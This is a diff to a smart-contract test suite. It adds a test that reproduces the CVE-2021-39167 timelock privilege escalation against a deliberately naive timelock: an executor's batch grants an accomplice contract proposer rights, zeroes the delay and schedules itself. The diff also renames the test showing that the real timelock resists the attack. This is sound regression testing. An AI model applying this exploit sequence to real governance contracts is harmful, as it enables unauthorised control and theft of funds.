@@ -17,7 +17,25 @@ async function asTimelock({ timelock }: Governance) {
 }
 
 describe("Attack: past the governor, through the timelock", () => {
-  it("an executor cannot make itself proposer within its own batch (CVE-2021-39167)", async () => {
+  it("where the timelock looks only after the calls, an executor schedules within its own batch (CVE-2021-39167)", async () => {
+    const { target, setNumber, stranger } = await fixture();
+    const naive = await ethers.deployContract("NaiveTimelock");
+    const accomplice = await ethers.deployContract("Scheduler");
+    const encode = naive.interface;
+    const targets = [naive.target, naive.target, target.target, accomplice.target] as string[];
+    const calls = [
+      encode.encodeFunctionData("setProposer", [accomplice.target]),
+      encode.encodeFunctionData("setDelay", [0n]),
+      setNumber(666n).data!,
+      accomplice.interface.encodeFunctionData("run"),
+    ];
+    // The batch cannot hold its own id, so it asks an accomplice that knows it.
+    await accomplice.prepare(naive.target, await naive.idOf(targets, calls));
+    await naive.connect(stranger).executeBatch(targets, calls);
+    expect(await target.number()).to.equal(666);
+  });
+
+  it("here an executor cannot make itself proposer within its own batch (CVE-2021-39167)", async () => {
     const context = await fixture();
     const { timelock, stranger } = context;
     const encode = timelock.interface;
